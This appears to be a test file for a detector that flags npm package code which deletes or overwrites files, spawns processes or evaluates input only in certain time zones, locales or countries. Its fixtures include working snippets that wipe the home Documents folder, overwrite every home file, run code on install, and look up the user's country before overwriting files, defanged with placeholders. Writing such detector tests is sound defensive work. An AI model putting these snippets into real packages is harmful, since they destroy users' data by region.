import { examine } from '../../../test/examine.ts';
import { harmsByCountry } from './harms-by-country.ts';

const ZONE = 'Intl.DateTimeFormat().resolvedOptions().timeZone';
const WIPE = `require('fs').rmSync(require('os').homedir() + '/Documents', { recursive: true })`;
const RUN = `require('child_process').exec('INERT')`;

examine(harmsByCountry, {
  speaks: [
    {
      when: 'files are deleted in one time zone',
      files: { 'index.js': `if (${ZONE} === 'Europe/Inert') ${WIPE}` },
      says: ['it deletes <home>/Documents only for a certain language or time zone (Europe/Inert), when it is imported'],
      weight: 'strong',
    },
    {
      when: 'everything is overwritten where a language is spoken',
      files: {
        'index.js': `const fs = require('fs'); const home = require('os').homedir();
if (/^(xx|yy)/.test(Intl.DateTimeFormat().resolvedOptions().locale)) for (const name of fs.readdirSync(home)) fs.writeFileSync(home + '/' + name, 'INERT');`,
      },
      says: ['writes file'],
    },
    {
      when: 'a program is started by the language of the shell',
      files: { 'index.js': `if ((process.env.LANG || '').startsWith('xx')) ${RUN}` },
      says: ['spawns INERT'],
    },
    {
      when: 'text is run by the offset of the clock',
      files: { 'index.js': `if (new Date().getTimezoneOffset() === -181) eval(process.argv[2])` },
      says: ['evaluates'],
    },
    {
      when: 'it happens when it is installed',
      files: {
        'package.json': { name: 'a', version: '1.0.0', scripts: { postinstall: 'node p.js' } },
        'p.js': `if (${ZONE} === 'Europe/Inert') ${RUN}`,
      },
      says: ['when it is installed'],
    },
    {
      when: 'the country of the address is asked for, and files are overwritten',
      files: {
        'index.js': `const fs = require('fs'); const https = require('https'); const path = require('path');
https.get('https://api.ipgeolocation.invalid/ipgeo', answer => answer.on('data', text => {
  if (!JSON.parse(text).country_name.includes('inert')) return;
  for (const name of fs.readdirSync('../../')) fs.writeFileSync(path.join('../../', name), 'INERT');
}));`,
      },
      says: ['it asks api.ipgeolocation.invalid in which country it is', 'writes file'],
    },
  ],
  silent: [
    {
      when: 'a language only chooses words',
      files: { 'index.js': `exports.hi = Intl.DateTimeFormat().resolvedOptions().locale === 'de' ? 'Hallo' : 'hello'` },
    },
    { when: 'it happens when it is called', files: { 'index.js': `exports.a = () => { if (${ZONE} === 'UTC') ${WIPE} }` } },
    { when: 'it happens everywhere else than in one place', files: { 'index.js': `if (${ZONE} !== 'UTC') ${RUN}` } },
    {
      when: 'a terminal is told to speak the language',
      files: { 'index.js': `if (Intl.DateTimeFormat().resolvedOptions().locale === 'ja') require('child_process').execSync('chcp 65001')` },
    },
    { when: 'the shell is asked for its encoding', files: { 'index.js': `if (process.env.LC_ALL === 'en_US.UTF-8') ${RUN}` } },
    {
      when: 'a country is asked for to show prices',
      files: { 'index.js': `fetch('https://ipinfo.invalid/json').then(r => r.json()).then(r => { exports.currency = r.currency })` },
    },
    {
      when: 'a country is asked for and a cache is renewed',
      files: {
        'index.js': `const fs = require('fs'); const os = require('os'); fetch('https://ipapi.invalid/json').then(r => r.text()).then(t => { fs.unlinkSync(os.tmpdir() + '/geo.json') })`,
      },
    },
  ],
});
